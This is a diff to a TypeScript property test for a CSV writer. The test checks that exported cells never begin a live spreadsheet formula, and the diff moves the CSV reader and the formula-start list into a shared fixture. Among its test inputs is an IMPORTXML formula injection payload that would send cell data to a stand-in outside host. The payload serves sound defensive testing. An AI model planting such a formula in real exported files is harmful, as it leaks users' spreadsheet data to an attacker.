@@ -1,40 +1,17 @@
 // The one CSV writer: whatever text a cell holds, a spreadsheet reading the file back
 // (RFC 4180) sees no cell that starts a formula, and sees the text itself behind the one
 // apostrophe the writer adds. Checked by property over generated cells, over the audit's
-// formula starts crossed with payloads, and through all three CSV exports.
+// formula starts crossed with payloads, and through the highlights and events exports.
 import fc from 'fast-check';
 import { describe, expect, it } from 'vitest';
 import { exportCsv } from '../../src/core/export/csv';
 import { exportEventsCsv } from '../../src/core/export/events';
 import type { Snapshot } from '../../src/core/export/snapshot';
-import { cooccurrenceCsv } from '../../src/renderer/src/lib/cooccurrence-export';
 import { csvCell, csvFile, FORMULA_START } from '../../src/shared/csv';
 import type { TimelineEvent } from '../../src/shared/methods/events';
 import type { Annotation, Document, Entity } from '../../src/shared/model';
+import { FORMULA_STARTS, readCsv } from '../fixtures/read-csv';
 
-/** An RFC 4180 reader, as a spreadsheet program reads the file. */
-function readCsv(file: string): string[][] {
-  const text = file.replace(/^\uFEFF/, '');
-  const rows: string[][] = [];
-  let row: string[] = [];
-  let cell = '';
-  let quoted = false;
-  for (let i = 0; i < text.length; i++) {
-    const c = text[i]!;
-    if (quoted) {
-      if (c === '"' && text[i + 1] === '"') ((cell += '"'), i++);
-      else if (c === '"') quoted = false;
-      else cell += c;
-    } else if (c === '"') quoted = true;
-    else if (c === ',') (row.push(cell), (cell = ''));
-    else if (c === '\r' && text[i + 1] === '\n') {
-      (row.push(cell), rows.push(row), (row = []), (cell = ''), i++);
-    } else cell += c;
-  }
-  return rows;
-}
-
-const STARTS = ['=', '+', '-', '@', '\t', '\r', '\n', '\0'];
 const live = (cell: string): boolean => FORMULA_START.test(cell);
 
 describe('a CSV cell', () => {
@@ -42,7 +19,7 @@ describe('a CSV cell', () => {
     const cellText = fc.oneof(
       fc.string({ unit: 'grapheme-composite', maxLength: 40 }),
       fc
-        .tuple(fc.constantFrom(...STARTS), fc.string({ unit: 'binary', maxLength: 40 }))
+        .tuple(fc.constantFrom(...FORMULA_STARTS), fc.string({ unit: 'binary', maxLength: 40 }))
         .map(([start, rest]) => start + rest),
     );
     fc.assert(
@@ -72,7 +49,9 @@ describe('a CSV cell', () => {
       '',
       'IMPORTXML(CONCAT("http://x/?", A1), "//a")',
     ];
-    const cells = STARTS.flatMap((s) => payloads.flatMap((p) => [s + p, s + s + p, `${s} ${p}`]));
+    const cells = FORMULA_STARTS.flatMap((s) =>
+      payloads.flatMap((p) => [s + p, s + s + p, `${s} ${p}`]),
+    );
     const read = readCsv(csvFile([cells]))[0]!;
     expect(read.filter(live)).toEqual([]);
     expect(read.length).toBe(cells.length);
@@ -97,10 +76,10 @@ describe('every CSV export', () => {
     createdAt: T,
     updatedAt: T,
   });
-  const entities = STARTS.map((s, i) => entity(`e${i}`, s));
+  const entities = FORMULA_STARTS.map((s, i) => entity(`e${i}`, s));
 
-  it('the highlights, the events and the co-occurrence pairs carry no live cell', () => {
-    const text = STARTS.map((s) => hostile(s)).join(' ');
+  it('the highlights and the events carry no live cell (the co-occurrence pairs: tests/renderer)', () => {
+    const text = FORMULA_STARTS.map((s) => hostile(s)).join(' ');
     const document: Document = {
       id: 'd1',
       title: hostile('='),
@@ -114,7 +93,7 @@ describe('every CSV export', () => {
       createdAt: T,
       updatedAt: T,
     };
-    const annotations: Annotation[] = STARTS.map((s, i) => {
+    const annotations: Annotation[] = FORMULA_STARTS.map((s, i) => {
       const start = text.indexOf(hostile(s));
       const exact = hostile(s);
       return {
@@ -146,16 +125,7 @@ describe('every CSV export', () => {
       participants: [{ id: 'x', name: hostile('\r'), role: hostile('\0') }],
       evidence: [],
     }));
-    const cooccurrence = {
-      scope: 'paragraph' as const,
-      nodes: entities.map((e) => ({ id: e.id, name: e.name, type: e.type, count: 1 })),
-      pairs: entities.slice(1).map((e) => ({ a: 'e0', b: e.id, count: 1 })),
-    };
-    for (const file of [
-      exportCsv(snapshot),
-      exportEventsCsv(events),
-      cooccurrenceCsv(cooccurrence),
-    ]) {
+    for (const file of [exportCsv(snapshot), exportEventsCsv(events)]) {
       const cells = readCsv(file).flat();
       expect(cells.length).toBeGreaterThan(20);
       expect(cells.filter(live)).toEqual([]);
